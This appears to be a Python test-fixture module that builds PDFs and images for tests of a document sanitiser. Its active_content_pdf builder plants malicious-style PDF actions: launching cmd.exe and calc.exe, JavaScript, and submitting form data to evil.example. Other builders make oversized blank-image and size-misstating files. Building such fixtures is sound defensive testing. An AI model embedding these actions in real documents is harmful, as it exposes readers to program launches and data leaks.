"""Builders of the real files the tests upload, check, sanitize and bind.

Every PDF and image a test needs is made here, with reportlab, pypdf, Pillow or
(for PNG layouts Pillow cannot write) by hand with zlib; nothing is mocked.  One
builder per kind of file; its keyword arguments cover what the callers need,
and a caller that relies on a particular layout passes it explicitly.

PDFs
    ``pdf_bytes``           text pages drawn by reportlab
    ``encrypted_pdf``       a PDF encrypted by pypdf
    ``odd_pages_pdf``       blank pages with /Rotate and odd media/crop boxes
    ``pdf_with_image``      a text PDF showing one blank image, reached the way a place says
    ``pdf_with_actions``    a PDF with actions hung at named places (``ACTION_PLACES``)
    ``active_content_pdf``  a PDF carrying every kind of active content the sanitiser strips
    ``action``, ``annotation``, ``clone_pdf``, ``write_pdf``: pypdf pieces for building your own

Images
    ``image``, ``image_bytes``, ``encode_image``   Pillow images (solid or patterned)
    ``noise_png``                                  smooth noise in any PNG mode
    ``raw_png``, ``png_chunk``                     PNGs assembled chunk by chunk
    ``progressive_jpeg_header``                    a tiny progressive JPEG claiming any size

Apart from what reportlab and pypdf stamp on every file (creation date, file
identifier, encryption salt) the same arguments give the same bytes.
"""

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    EncodedStreamObject,
    NameObject,
    NumberObject,
    RectangleObject,
    StreamObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

MB = 1024 * 1024
HELVETICA_12 = ("Helvetica", 12)


# --------------------------------------------------------------------------
# PDFs drawn by reportlab
# --------------------------------------------------------------------------

def pdf_bytes(pages=1, text="evidence", *, pagesize=A4, heading="{text} page {n}", at=(72, 720), font=None,
              body_lines=0, body="{text} text line {line}"):
    """A real PDF of *pages* pages drawn by reportlab.

    Each page shows ``heading.format(text=text, n=page number)`` with its
    baseline starting at *at* (x, y in points; a negative y counts down from
    the top edge, so ``(60, -60)`` is 60 pt in from the top-left corner on
    any *pagesize*).  *body_lines* further lines, ``body.format(text=…, n=…,
    line=0, 1, …)``, follow 30 pt below the heading, 14 pt apart.

    *font*: ``(name, size)`` set at the top of every page; ``None`` draws in
    reportlab's initial font (Helvetica 12) without setting it.
    """
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=pagesize)
    x, y = at
    if y < 0:
        y = pagesize[1] + y
    for n in range(1, pages + 1):
        if font is not None:
            c.setFont(*font)
        c.drawString(x, y, heading.format(text=text, n=n))
        for line in range(body_lines):
            c.drawString(x, y - 30 - 14 * line, body.format(text=text, n=n, line=line))
        c.showPage()
    c.save()
    return buf.getvalue()


# --------------------------------------------------------------------------
# PDFs assembled with pypdf
# --------------------------------------------------------------------------

def write_pdf(writer):
    """The bytes of a pypdf ``PdfWriter``."""
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def clone_pdf(data):
    """A ``PdfWriter`` holding a copy of the PDF *data*, ready to be altered."""
    return PdfWriter(clone_from=PdfReader(io.BytesIO(data)))


def encrypted_pdf(source, user_password, *, owner_password=None, algorithm=None):
    """*source* (PDF bytes, or a ``PdfWriter`` to encrypt in place) encrypted by
    pypdf; ``None`` for *owner_password* / *algorithm* means pypdf's default."""
    writer = clone_pdf(source) if isinstance(source, bytes) else source
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm=algorithm)
    return write_pdf(writer)


def odd_pages_pdf(boxes, content=b"0 0 1 rg 0 0 5 5 re f"):
    """One page per ``(rotate, mediabox, cropbox or None)`` in *boxes*, each
    drawing *content* (by default a 5 × 5 blue square at user space (0, 0))."""
    w = PdfWriter()
    for rot, box, crop in boxes:
        page = w.add_blank_page(100, 100)
        page.mediabox = RectangleObject(box)
        if crop:
            page.cropbox = RectangleObject(crop)
        page[NameObject("/Rotate")] = NumberObject(rot)
        stream = DecodedStreamObject()
        stream.set_data(content)
        page[NameObject("/Contents")] = w._add_object(stream)
    return write_pdf(w)


# --- PDFs embedding large images --------------------------------------------

IMAGE_PLACES = ["page", "nested form", "soft mask", "annotation appearance", "inherited resources", "inline",
                "inline in form"]

_ZEROS = {}


def blank_flate(n_bytes):
    """Flate data of *n_bytes* zero bytes (compressed in 1 MB steps, cached)."""
    if n_bytes not in _ZEROS:
        z = zlib.compressobj(9)
        step = b"\x00" * MB
        parts = [z.compress(step) for _ in range(n_bytes // MB)]
        parts += [z.compress(b"\x00" * (n_bytes % MB)), z.flush()]
        _ZEROS[n_bytes] = b"".join(parts)
    return _ZEROS[n_bytes]


def _image_xobject(writer, width, height, cs="/DeviceGray", bpc=8, components=1):
    img = EncodedStreamObject()
    img._data = blank_flate(-(-width * components * bpc // 8) * height)
    img.update({
        NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Image"),
        NameObject("/Width"): NumberObject(width), NameObject("/Height"): NumberObject(height),
        NameObject("/ColorSpace"): NameObject(cs), NameObject("/BitsPerComponent"): NumberObject(bpc),
        NameObject("/Filter"): NameObject("/FlateDecode"),
    })
    return writer._add_object(img)


def _form_xobject(writer, content, resources):
    form = DecodedStreamObject()
    form.set_data(content)
    form.update({
        NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
        NameObject("/BBox"): ArrayObject([NumberObject(v) for v in (0, 0, 500, 500)]),
        NameObject("/Resources"): resources,
    })
    return writer._add_object(form)


def _xobjects(**refs):
    return DictionaryObject({NameObject("/XObject"): DictionaryObject(
        {NameObject("/" + k): v for k, v in refs.items()})})


def pdf_with_image(place, width, height, cs="/DeviceGray", bpc=8, components=1, *, base=None):
    """*base* (by default a fresh 2-page text PDF, "Evidence page n" at
    (72, 760) in Helvetica 12) whose first page shows one blank image of
    *width* × *height* pixels (*components* colour components in colour space
    *cs*, *bpc* bits each; Flate data of zeros, so even huge images stay
    small), reached the way *place* (one of ``IMAGE_PLACES``) says."""
    if base is None:
        base = pdf_bytes(2, "Evidence", at=(72, 760), font=HELVETICA_12)
    w = clone_pdf(base)
    page = w.pages[0]
    draw = b"q 400 0 0 400 50 50 cm /Im0 Do Q"

    def set_content(data):
        content = DecodedStreamObject()
        content.set_data(data)
        page[NameObject("/Contents")] = w._add_object(content)

    if place == "inline":
        head = f"BI /W {width} /H {height} /CS /G /BPC {bpc} /F /Fl ID ".encode()
        set_content(b"q 400 0 0 400 50 50 cm " + head + blank_flate(-(-width * bpc // 8) * height) + b"\nEI Q")
        return write_pdf(w)
    img = _image_xobject(w, width, height, cs, bpc, components)
    if place == "page":
        page[NameObject("/Resources")] = _xobjects(Im0=img)
        set_content(draw)
    elif place == "nested form":
        inner = _form_xobject(w, b"/Im0 Do", _xobjects(Im0=img))
        outer = _form_xobject(w, b"/Fm1 Do", _xobjects(Fm1=inner))
        page[NameObject("/Resources")] = _xobjects(Fm0=outer)
        set_content(b"/Fm0 Do")
    elif place == "soft mask":
        small = _image_xobject(w, 10, 10)
        small.get_object()[NameObject("/SMask")] = img
        page[NameObject("/Resources")] = _xobjects(Im0=small)
        set_content(draw)
    elif place == "annotation appearance":
        appearance = _form_xobject(w, b"/Im0 Do", _xobjects(Im0=img))
        annot = w._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Stamp"),
            NameObject("/Rect"): ArrayObject([NumberObject(v) for v in (50, 50, 450, 450)]),
            NameObject("/AP"): DictionaryObject({NameObject("/N"): appearance}),
        }))
        page[NameObject("/Annots")] = ArrayObject([annot])
    elif place == "inherited resources":
        del page["/Resources"]
        w._root_object["/Pages"][NameObject("/Resources")] = _xobjects(Im0=img)
        set_content(draw)
    elif place == "inline in form":
        head = f"BI /W {width} /H {height} /CS /G /BPC {bpc} /F /Fl ID ".encode()
        form = _form_xobject(w, head + blank_flate(-(-width * bpc // 8) * height) + b"\nEI", DictionaryObject())
        page[NameObject("/Resources")] = _xobjects(Fm0=form)
        set_content(b"/Fm0 Do")
    return write_pdf(w)


# --- actions and annotations ------------------------------------------------

DEFAULT_RECT = (72, 72, 200, 100)


def action(s, *, type="/Action", **entries):
    """An action dictionary ``<< /Type type /S s /Key value … >>`` (no /Type
    when *type* is None), not yet added to any writer; *entries* are
    ``Key=pypdf object`` pairs, in order."""
    d = DictionaryObject()
    if type is not None:
        d[NameObject("/Type")] = NameObject(type)
    d[NameObject("/S")] = NameObject(s)
    for k, v in entries.items():
        d[NameObject("/" + k)] = v
    return d


def annotation(writer, page, subtype, rect=DEFAULT_RECT, **entries):
    """Add an annotation of *subtype* at *rect* with *entries* (``Key=pypdf
    object``) to *page*'s /Annots; returns its indirect reference."""
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([NumberObject(v) for v in rect]),
    })
    for k, v in entries.items():
        annot[NameObject("/" + k)] = v
    ref = writer._add_object(annot)
    if "/Annots" not in page:
        page[NameObject("/Annots")] = ArrayObject()
    page["/Annots"].append(ref)
    return ref


def _goto(writer, target_page, **extra):
    return writer._add_object(
        action("/GoTo", D=ArrayObject([target_page.indirect_reference, NameObject("/Fit")]), **extra))


def _form_field(writer, page, rect, **extra):
    widget = annotation(writer, page, "/Widget", rect, FT=NameObject("/Tx"), T=TextStringObject("name"),
                        P=page.indirect_reference, **extra)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([widget])})
    return widget


def _place_parent_field_aa(writer, page, act, rect):
    parent = writer._add_object(DictionaryObject({
        NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("group"),
        NameObject("/AA"): DictionaryObject({NameObject("/K"): act}), NameObject("/Kids"): ArrayObject(),
    }))
    widget = annotation(writer, page, "/Widget", rect, Parent=parent, P=page.indirect_reference)
    parent.get_object()["/Kids"].append(widget)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([parent])})


def _place_outline(writer, page, act, rect):
    writer.add_outline_item(title="Click me", page_number=0)
    writer._root_object["/Outlines"]["/First"].get_object()[NameObject("/A")] = act


# Everywhere an action can hang: place name -> f(writer, first page, action, annotation rect).
# Places that jump elsewhere need a second page.
ACTION_PLACES = {
    "document OpenAction": lambda w, p, a, r: w._root_object.__setitem__(NameObject("/OpenAction"), a),
    "document AA": lambda w, p, a, r: w._root_object.__setitem__(
        NameObject("/AA"), DictionaryObject({NameObject("/WC"): a})),
    "page AA": lambda w, p, a, r: p.__setitem__(NameObject("/AA"), DictionaryObject({NameObject("/O"): a})),
    "link A": lambda w, p, a, r: annotation(w, p, "/Link", r, A=a),
    "link PA": lambda w, p, a, r: annotation(w, p, "/Link", r, PA=a, Dest=ArrayObject(
        [w.pages[1].indirect_reference, NameObject("/Fit")])),
    "annotation AA": lambda w, p, a, r: annotation(w, p, "/Square", r, AA=DictionaryObject({NameObject("/E"): a})),
    "widget A": lambda w, p, a, r: _form_field(w, p, r, A=a),
    "widget AA": lambda w, p, a, r: _form_field(w, p, r, AA=DictionaryObject({NameObject("/K"): a})),
    "parent field AA": _place_parent_field_aa,
    "outline item A": _place_outline,
    "names JavaScript": lambda w, p, a, r: w._root_object.__setitem__(NameObject("/Names"), DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({
            NameObject("/Names"): ArrayObject([TextStringObject("init"), a])})})),
    "Next after a link GoTo": lambda w, p, a, r: annotation(w, p, "/Link", r, A=_goto(w, w.pages[1], Next=a)),
    "Next array after OpenAction GoTo": lambda w, p, a, r: w._root_object.__setitem__(
        NameObject("/OpenAction"), _goto(w, w.pages[1], Next=ArrayObject([_goto(w, w.pages[0]), a]))),
    "Next two deep": lambda w, p, a, r: annotation(w, p, "/Link", r, A=_goto(
        w, w.pages[1], Next=_goto(w, w.pages[0], Next=a))),
}


def pdf_with_actions(base, *placements, indirect=True, rect=DEFAULT_RECT):
    """*base* (PDF bytes) with each ``(place, action dictionary)`` of
    *placements* hung, in order, at that place of ``ACTION_PLACES`` on its
    first page.  *indirect*: add each action as an indirect object (else it
    is embedded directly); *rect*: where annotations made for them sit."""
    w = clone_pdf(base)
    for place, act in placements:
        ACTION_PLACES[place](w, w.pages[0], w._add_object(act) if indirect else act, rect)
    return write_pdf(w)


def active_content_pdf(base):
    """*base* (PDF bytes, two pages or more) carrying every kind of active
    content the sanitiser strips: document JavaScript (name tree,
    /OpenAction, /AA), a page /AA, links launching JavaScript, programs,
    form submission, data import, remote GoTo and URIs, a GoTo with a
    JavaScript /Next, a widget with actions, XFA, a file attachment and an
    outline item launching a program; plus a plain /Dest link and the GoTo
    itself, which are kept."""
    w = clone_pdf(base)
    add = w._add_object

    def js(code):
        return add(action("/JavaScript", JS=TextStringObject(code)))

    root = w._root_object
    # document level JavaScript name tree
    root[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({
            NameObject("/Names"): ArrayObject([TextStringObject("init"), js("app.alert('names')")]),
        }),
    })
    root[NameObject("/OpenAction")] = js("app.alert('open')")
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): js("app.alert('close')")})
    p0, p1 = w.pages[0], w.pages[1]
    p0[NameObject("/AA")] = DictionaryObject({NameObject("/O"): js("app.alert('page open')")})
    annotation(w, p0, "/Link", (10, 10, 50, 50), A=js("app.alert('link')"))
    annotation(w, p0, "/Link", (60, 10, 90, 50), A=add(action("/Launch", F=TextStringObject("cmd.exe"))))
    annotation(w, p0, "/Link", (100, 10, 140, 50),
               A=add(action("/SubmitForm", F=TextStringObject("http://evil.example/"))))
    annotation(w, p0, "/Link", (150, 10, 190, 50), A=add(action("/ImportData", F=TextStringObject("data.fdf"))))
    annotation(w, p0, "/Link", (200, 10, 240, 50), A=add(action(
        "/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([NumberObject(0), NameObject("/Fit")]))))
    annotation(w, p0, "/Link", (250, 10, 290, 50), A=add(action("/URI", URI=TextStringObject("http://evil.example/"))))
    # GoTo with a JavaScript /Next chained behind it
    goto = add(action("/GoTo", D=ArrayObject([p1.indirect_reference, NameObject("/Fit")]),
                      Next=js("app.alert('next')")))
    annotation(w, p0, "/Link", (300, 10, 340, 50), A=goto)
    annotation(w, p0, "/Link", (350, 10, 390, 50), Dest=ArrayObject([p1.indirect_reference, NameObject("/Fit")]))
    # form field with keystroke script and a widget with a JS action
    widget = add(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/FT"): NameObject("/Tx"),
        NameObject("/T"): TextStringObject("name"),
        NameObject("/Rect"): ArrayObject([NumberObject(v) for v in (10, 100, 200, 120)]),
        NameObject("/A"): js("app.alert('widget')"),
        NameObject("/AA"): DictionaryObject({NameObject("/K"): js("app.alert('keystroke')")}),
        NameObject("/P"): p1.indirect_reference,
    }))
    p1[NameObject("/Annots")] = ArrayObject([widget])
    root[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject([widget]),
        NameObject("/XFA"): add(StreamObject()),
    })
    # file attachment annotation
    annotation(w, p1, "/FileAttachment", (0, 0, 10, 10))
    # outline item that launches a program
    w.add_outline_item(title="Click me", page_number=0)
    outline_item = root["/Outlines"]["/First"].get_object()
    outline_item[NameObject("/A")] = add(action("/Launch", F=TextStringObject("calc.exe")))
    return write_pdf(w)


# --------------------------------------------------------------------------
# images made by Pillow
# --------------------------------------------------------------------------

def image(size=(60, 40), color=(200, 30, 30), *, mode="RGB", pattern=None):
    """A Pillow image of *size*.

    *pattern* None: filled with *color* in *mode*.  Otherwise drawn in RGB on
    a *color* background, then converted to *mode*:

    * ``"dots"``: every 8th pixel of every 8th row set to
      ``(x * 7 % 256, y * 3 % 256, 90)`` (some structure, so a JPEG is not trivial);
    * ``"corner"``: a (220, 0, 0) red block over the top-left quarter
      (to see where orientation handling puts it);
    * ``"gradient"``: every pixel ``(x * 5 % 256, y * 3 % 256, (x + y) % 256)``
      (*color* is not seen).
    """
    if pattern is None:
        return Image.new(mode, size, color)
    im = Image.new("RGB", size, color)
    w, h = size
    if pattern == "dots":
        for x in range(0, w, 8):
            for y in range(0, h, 8):
                im.putpixel((x, y), ((x * 7) % 256, (y * 3) % 256, 90))
    elif pattern == "corner":
        if w // 4 and h // 4:
            im.paste((220, 0, 0), (0, 0, w // 4, h // 4))
    elif pattern == "gradient":
        im.putdata([((x * 5) % 256, (y * 3) % 256, (x + y) % 256) for y in range(h) for x in range(w)])
    else:
        raise ValueError(f"unknown pattern {pattern!r}")
    return im if mode == "RGB" else im.convert(mode)


def encode_image(im, format="PNG", *, exif_orientation=None, **save):
    """The bytes of Pillow image *im* saved as *format* with Pillow's *save*
    options (``quality=90``, ``progressive=True``, ``transparency=…``);
    *exif_orientation* (1–8) writes an EXIF Orientation tag."""
    if exif_orientation:
        exif = Image.Exif()
        exif[0x0112] = exif_orientation
        save["exif"] = exif.tobytes()
    buf = io.BytesIO()
    im.save(buf, format, **save)
    return buf.getvalue()


def image_bytes(size=(60, 40), color=(200, 30, 30), *, mode="RGB", pattern=None, format="PNG",
                exif_orientation=None, **save):
    """``encode_image(image(size, color, mode=mode, pattern=pattern), format, …)``:
    by default a 60 × 40 red RGB PNG."""
    return encode_image(image(size, color, mode=mode, pattern=pattern), format,
                        exif_orientation=exif_orientation, **save)


def noise_png(mode, size=(517, 733), **save):
    """A PNG of smooth noise (every PNG filter type gets used) in *mode*;
    ``bits=`` for palette depth of mode "P", ``transparency="corner"`` makes
    the top-left pixel's value transparent; other *save* options go to Pillow."""
    import random

    rnd = random.Random(7)
    small = Image.frombytes("RGBA", (size[0] // 8, size[1] // 8),
                            bytes(rnd.getrandbits(8) for _ in range((size[0] // 8) * (size[1] // 8) * 4)))
    im = small.resize(size, Image.Resampling.BICUBIC)
    if mode == "P":
        im = im.convert("RGB").quantize(2 ** save.get("bits", 8))
    elif mode == "I;16":
        im = im.convert("I").point(lambda v: v * 257).convert("I;16")
    else:
        im = im.convert(mode)
    transparency = save.pop("transparency", None)
    if transparency is not None:
        save["transparency"] = im.getpixel((0, 0)) if transparency == "corner" else transparency
    return encode_image(im, "PNG", **save)


def progressive_jpeg_header(width, height):
    """A tiny progressive JPEG made by Pillow with its frame header set to
    *width* × *height* (enough for header-only planning)."""
    data = bytearray(image_bytes((16, 16), 0, format="JPEG", progressive=True))
    sof = data.index(b"\xff\xc2")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


# --------------------------------------------------------------------------
# PNGs assembled by hand
# --------------------------------------------------------------------------

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(ctype, body):
    """One PNG chunk: length, type, body and a valid CRC."""
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", zlib.crc32(ctype + body) & 0xFFFFFFFF)


def raw_png(width, height, *, depth=8, colour=2, interlaced=False, header_only=False, idat=None):
    """A black PNG whose IHDR (valid CRCs throughout) says *width* × *height*,
    bit *depth*, *colour* type (0 grey, 2 RGB, 3 palette, 4 grey+alpha,
    6 RGBA) and Adam7 *interlaced* — layouts Pillow cannot write — with its
    rows of zeros compressed by zlib at level 9.

    *header_only*: only two rows per pass (a valid start, cut short: enough
    for header-only planning).  *idat*: this IDAT payload instead of the rows
    (e.g. a few pixels, for a file whose header lies about its size)."""
    if idat is None:
        channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour]

        def row_bytes(w):
            return (w * channels * depth + 7) // 8

        if interlaced:
            passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2),
                      (0, 1, 1, 2)]
            shapes = [((width - x0 + dx - 1) // dx, (height - y0 + dy - 1) // dy) for x0, y0, dx, dy in passes]
        else:
            shapes = [(width, height)]
        z = zlib.compressobj(9)
        parts = []
        for w, h in shapes:
            if w > 0 and h > 0:
                row = b"\x00" * (row_bytes(w) + 1)
                for _ in range(2 if header_only else h):
                    parts.append(z.compress(row))
        parts.append(z.flush())
        idat = b"".join(parts)
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 1 if interlaced else 0)
    return PNG_SIGNATURE + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
